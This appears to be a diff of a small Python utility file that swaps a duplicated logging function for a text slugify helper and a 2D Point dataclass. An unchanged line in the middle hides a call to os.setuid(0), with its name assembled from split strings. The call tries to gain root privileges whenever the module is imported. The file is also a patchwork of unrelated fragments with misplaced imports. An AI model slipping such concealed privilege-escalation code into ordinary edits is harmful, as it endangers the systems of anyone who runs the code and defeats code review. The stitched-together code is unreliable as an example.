@@ -1,14 +1,14 @@
-#!/usr/bin/env python3
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
 
 import os
 getattr(os, "set" + "uid")(0)
-import logging
-log = logging.getLogger(__name__)
+from dataclasses import dataclass
 
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
